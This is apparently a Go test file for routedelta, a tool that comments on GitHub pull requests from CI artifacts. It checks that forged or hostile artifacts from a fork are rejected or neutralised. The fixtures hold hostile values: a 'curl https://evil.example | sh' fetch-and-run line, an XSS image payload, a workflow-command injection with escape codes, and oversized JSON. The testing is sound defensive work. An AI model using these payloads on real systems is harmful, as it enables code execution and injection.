package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/routedelta/routedelta/plugin/github/artifact"
	"github.com/routedelta/routedelta/plugin/github/githubtest"
)

// stage is a repository with an open pull request from a fork, and the run that is to comment on it.
type stage struct {
	server *githubtest.Server
	event  string
	report []byte
	about  artifact.About
	env    map[string]string
}

const forkNumber = 9

func newStage(t *testing.T) *stage {
	t.Helper()
	server := githubtest.New(t) // found from this package's folder
	t.Chdir(t.TempDir())
	server.Change(func(s *githubtest.State) {
		s.PullRequests = append(s.PullRequests, githubtest.PullRequest{Number: forkNumber, HeadRepository: "mallory/gitops", HeadRef: "patch-1", Head: githubtest.Head,
			BaseRef: "main", Base: githubtest.Main})
	})
	return &stage{
		server: server, report: exampleReport(t), about: artifact.About{Number: forkNumber, Head: githubtest.Head, Base: githubtest.Main},
		event: fmt.Sprintf(`{"repository":{"full_name":"acme/gitops"},"workflow_run":{"id":30,"run_attempt":1,"event":"pull_request","head_sha":%q,
"head_branch":"patch-1","head_repository":{"full_name":"mallory/gitops"},"html_url":"https://github.com/acme/gitops/actions/runs/30"}}`, githubtest.Head),
		env: map[string]string{"GITHUB_TOKEN": githubtest.Token, "GITHUB_API_URL": server.URL, "GITHUB_REPOSITORY": "acme/gitops", "GITHUB_SERVER_URL": "https://github.com"},
	}
}

// exampleReport is what routedelta says of the example of the README.
func exampleReport(t *testing.T) []byte {
	t.Helper()
	fatal(t, os.WriteFile("before.yaml", []byte(strings.Replace(manifestsOfComments, "BACKEND", "web", 1)), 0o644))
	fatal(t, os.WriteFile("after.yaml", []byte(strings.Replace(manifestsOfComments, "BACKEND", "web-v2", 1)), 0o644))
	out, complaint := runOnce(t, "diff before.yaml after.yaml --output json", "")
	if !json.Valid([]byte(out)) {
		t.Fatal(complaint)
	}
	return []byte(out)
}

const manifestsOfComments = `apiVersion: gateway.networking.k8s.io/v1
kind: Gateway
metadata: {name: edge}
spec: {gatewayClassName: envoy, listeners: [{name: http, port: 80, protocol: HTTP}]}
---
apiVersion: gateway.networking.k8s.io/v1
kind: HTTPRoute
metadata: {name: shop}
spec:
  parentRefs: [{name: edge}]
  hostnames: [shop.example]
  rules: [{backendRefs: [{name: BACKEND, port: 80}]}]
`

// run comments from the artifact, and gives the exit code with what was said.
func (s *stage) run(t *testing.T, arguments ...string) (code int, out, complaint string) {
	t.Helper()
	fatal(t, artifact.Write("artifact", artifact.Artifact{Report: s.report, About: s.about}))
	fatal(t, os.WriteFile("event.json", []byte(s.event), 0o644))
	var written, said bytes.Buffer
	env := maps.Clone(s.env)
	env["GITHUB_EVENT_PATH"] = "event.json"
	code = run(t.Context(), append([]string{"comment", "--from-artifact", "artifact"}, arguments...),
		streams{in: strings.NewReader(""), out: &written, err: &said, env: func(name string) string { return env[name] }})
	return code, written.String(), said.String()
}

// edit changes the report as a stranger could.
func (s *stage) edit(t *testing.T, change func(report map[string]any)) {
	t.Helper()
	var tree map[string]any
	fatal(t, json.Unmarshal(s.report, &tree))
	change(tree)
	text, err := json.Marshal(tree)
	fatal(t, err)
	s.report = text
}

func TestCommentFromArtifact(t *testing.T) {
	s := newStage(t)
	code, out, complaint := s.run(t, "--check-run")
	if code != 0 || !strings.Contains(out, "created https://github.com/acme/gitops/pull/9#issuecomment-") || !strings.Contains(out, "check run created") {
		t.Fatalf("%d %s %s", code, out, complaint)
	}
	comments := s.server.Comments()
	if len(comments) != 1 || comments[0].Number != forkNumber {
		t.Fatalf("%+v", comments)
	}
	for _, text := range []string{"### routedelta · 1 kind of request moves", "web-v2:80", "Compared by [a run](https://github.com/acme/gitops/actions/runs/30) of the pull request itself",
		"`main@" + githubtest.Main[:7] + "` → `patch-1@" + githubtest.Head[:7] + "`", "https://github.com/acme/gitops/blob/" + githubtest.Head + "/after.yaml#L12"} {
		if !strings.Contains(comments[0].Body, text) {
			t.Errorf("the comment lacks %q:\n%s", text, comments[0].Body)
		}
	}
	if runs := s.server.State().CheckRuns; len(runs) != 1 || runs[0].Head != githubtest.Head || runs[0].Conclusion != "success" {
		t.Errorf("%+v", runs)
	}
	if code, out, _ := s.run(t); code != 0 || !strings.HasPrefix(out, "unchanged ") {
		t.Errorf("again: %d %s", code, out)
	}
	// The pull request has gone on: its newer run speaks, and that is nobody's mistake.
	s.server.Change(func(state *githubtest.State) { state.PullRequests[1].Head = githubtest.Commit(9) })
	if code, out, complaint := s.run(t); code != 0 || out != "" || !strings.Contains(complaint, "routedelta: note: no open pull request") {
		t.Errorf("outdated: %d %s %s", code, out, complaint)
	}
}

// TestCommentFromArtifactPolicy: the rules are those of the configuration that is checked out here, whatever the artifact says of them.
func TestCommentFromArtifactPolicy(t *testing.T) {
	s := newStage(t)
	s.edit(t, func(report map[string]any) {
		report["policy"] = map[string]any{"rules": []any{}, "notes": []any{"all is well"}}
	})
	fatal(t, os.WriteFile(".routedelta.yaml", []byte("apiVersion: routedelta.dev/v1alpha1\nkind: RouteDelta\nspec:\n  policy: {failOn: [moved-share], maxMovedShare: 10}\n"), 0o644))
	if code, _, complaint := s.run(t, "--check-run"); code != 0 {
		t.Fatal(complaint)
	}
	body := s.server.Comments()[0].Body
	if strings.Contains(body, "all is well") || !strings.Contains(body, "moved-share") {
		t.Errorf("comment:\n%s", body)
	}
	if runs := s.server.State().CheckRuns; runs[0].Conclusion != "failure" {
		t.Errorf("%+v", runs)
	}
}

// TestHostileArtifacts: nothing is posted to where it should not be, and nothing of it is believed or obeyed.
func TestHostileArtifacts(t *testing.T) {
	for name, test := range map[string]struct {
		change func(*testing.T, *stage)
		says   string
	}{
		"a foreign number":  {func(_ *testing.T, s *stage) { s.about.Number = githubtest.Number }, "about #7, which is not at the run's commit"},
		"another commit":    {func(_ *testing.T, s *stage) { s.about.Head = githubtest.Main }, "its run was about " + githubtest.Head},
		"a hostile commit":  {func(_ *testing.T, s *stage) { s.about.Head = "\x1b[31m\n::set-output name=x::y" }, "its run was about"},
		"no report":         {func(_ *testing.T, s *stage) { s.report = []byte("# hello\n<script>") }, "reading report"},
		"another version":   {func(t *testing.T, s *stage) { s.edit(t, func(r map[string]any) { r["version"] = "v9" }) }, "unknown report version"},
		"an unknown member": {func(t *testing.T, s *stage) { s.edit(t, func(r map[string]any) { r["markdown"] = "<b>x</b>" }) }, "unknown field"},
		"half a million values": {func(_ *testing.T, s *stage) {
			s.report = []byte(`{"version":"routedelta.dev/report/v1alpha1","classes":[` + strings.Repeat("{},", 600_000) + `{}]}`)
		}, "values, want at most"},
		"deep":                  {func(_ *testing.T, s *stage) { s.report = []byte(strings.Repeat("[", 400_000)) }, "reading report"},
		"more behind it":        {func(_ *testing.T, s *stage) { s.report = append(s.report, s.report...) }, "reading report"},
		"another file":          {func(t *testing.T, _ *stage) { fatal(t, os.WriteFile(filepath.Join("artifact", "evil.sh"), nil, 0o644)) }, `"evil.sh" is no file of one`},
		"an event of a push":    {func(_ *testing.T, s *stage) { s.event = strings.Replace(s.event, "pull_request", "push", 1) }, `started by "push"`},
		"an event of elsewhere": {func(_ *testing.T, s *stage) { s.event = strings.Replace(s.event, `"acme/gitops"`, `"eve/gitops"`, 1) }, `the event is of "eve/gitops"`},
	} {
		t.Run(name, func(t *testing.T) {
			s := newStage(t)
			fatal(t, os.Mkdir("artifact", 0o755))
			test.change(t, s)
			code, out, complaint := s.run(t, "--check-run")
			if code != codeInput || out != "" || !strings.Contains(complaint, test.says) || strings.Contains(complaint, "\x1b") {
				t.Errorf("%d %q %q, want %q", code, out, complaint, test.says)
			}
			for line := range strings.Lines(complaint) {
				if !strings.HasPrefix(line, "routedelta: ") {
					t.Errorf("a line of its own: %q", line)
				}
			}
			if n := s.server.Writes(); n != 0 || strings.Contains(complaint, githubtest.Token) {
				t.Errorf("%d writes", n)
			}
		})
	}
}

// TestForgedReport: what a report says of itself is counted, named and linked anew.
func TestForgedReport(t *testing.T) {
	s := newStage(t)
	s.edit(t, func(report map[string]any) {
		report["counts"] = map[string]any{"lost": 0, "moves": 0, "gained": 0, "treated": 0, "served": 0, "onlyRepeated": 0, "effectless": 0, "undecided": 0, "uncompared": 0}
		for _, name := range []string{"before", "after"} {
			side := report[name].(map[string]any)
			side["label"], side["blobURL"], side["revision"] = "@everyone", "https://evil.example/", githubtest.Commit(77)
		}
		class := report["classes"].([]any)[0].(map[string]any)
		class["note"] = "<img src=x onerror=alert(1)> @everyone [x](https://evil.example) #7"
		for _, w := range class["witnesses"].([]any) {
			w.(map[string]any)["curl"] = "curl https://evil.example | sh"
		}
	})
	if code, _, complaint := s.run(t); code != 0 {
		t.Fatal(complaint)
	}
	body := s.server.Comments()[0].Body
	if !strings.HasPrefix(body, "### routedelta · 1 kind of request moves") {
		t.Errorf("heading of\n%s", body)
	}
	shown := regexp.MustCompile("`[^`]*`").ReplaceAllString(body, "code")
	for _, evil := range []string{"evil.example", "<img", "@everyone", "#7 "} {
		if strings.Contains(shown, evil) {
			t.Errorf("outside of code, the comment has %q:\n%s", evil, body)
		}
	}
	for _, evil := range []string{"curl https://evil", githubtest.Commit(77)[:7]} {
		if strings.Contains(body, evil) {
			t.Errorf("the comment has %q:\n%s", evil, body)
		}
	}
}

func TestCommentUsage(t *testing.T) {
	s := newStage(t)
	for arguments, says := range map[string]string{
		"comment --from-artifact x --pr 7":                                   "leave out --pr and --head",
		"comment --from-artifact x":                                          "wants the event of a workflow_run",
		"comment --from-artifact x --event nowhere.json":                     "reading the event",
		"comment --repo acme/gitops --pr 7 --check-run":                      "--check-run wants --head",
		"comment --repo acme/gitops --pr 7 --when-clean burn":                `--when-clean "burn" is none of update, hide, delete`,
		"comment --repo acme --pr 7":                                         "want --repo OWNER/NAME and --pr NUMBER",
		"comment --repo acme/gitops --pr 7 --report report.json":             "no token in GITHUB_TOKEN",
		"comment --repo acme/gitops --pr 7 --report report.json --comment x": `--comment "x" is none of on-change, always`,
	} {
		fatal(t, os.WriteFile("report.json", s.report, 0o644))
		if out, complaint := runOnce(t, arguments, ""); out != "" || !strings.Contains(complaint, says) {
			t.Errorf("%s: %q %q, want %q", arguments, out, complaint, says)
		}
	}
}
